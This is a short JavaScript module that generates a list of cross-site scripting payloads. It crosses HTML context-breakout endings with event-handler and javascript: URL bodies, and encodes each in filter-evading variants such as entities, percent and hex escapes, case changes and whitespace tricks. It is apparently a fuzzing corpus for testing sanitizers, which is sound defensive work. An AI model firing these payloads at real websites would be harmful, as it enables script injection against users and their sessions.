/** Ways out of where a text stands, by things that run, in ways to write them: each with each. */
const endings = [
  ...['', '"', "'", '`', '>', '">', "'>", '-->', '--!>', ']]>', '*/'],
  ...['</title>', '</style>', '</textarea>', '</script>', '</noscript>', '</template>', '</svg>'],
];

const bodies = [
  '<img src=x onerror=@>',
  '<svg onload=@>',
  '<script>@</script>',
  '<details open ontoggle=@>x</details>',
  '<iframe srcdoc="<script>parent.@</script>"></iframe>',
  '<a href="javascript:@">x</a>',
  '<input autofocus onfocus=@>',
  '<math><mi xlink:href="javascript:@">x</mi></math>',
];

const entity = (base) => (text) =>
  text.replace(/[<>"'=:()]/g, (sign) => {
    const code = sign.charCodeAt(0);
    return base === 16 ? `&#x${code.toString(16)};` : `&#${code};`;
  });

const writings = {
  plain: (text) => text,
  capital: (text) => text.replace(/<\/?\w+|\bon\w+|javascript/g, (word) => word.toUpperCase()),
  decimal: entity(10),
  hexadecimal: entity(16),
  named: (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;'),
  percent: (text) => text.replace(/[<>"'=:()]/g, (sign) => encodeURIComponent(sign)),
  script: (text) => text.replace(/[<>"']/g, (sign) => `\\x${sign.charCodeAt(0).toString(16)}`),
  broken: (text) => text.replace(/ (\w+=)/g, '\u000c/$1').replace(/javascript/, 'java\u0009script'),
};

export const crossed = endings.flatMap((ending, i) =>
  bodies.flatMap((body, j) =>
    Object.values(writings)
      .filter((_, k) => k === 0 || (i + j + k) % 2 === 0) // plain with all, the others with half of them
      .map((write) => `${ending}${write(body)}`),
  ),
);
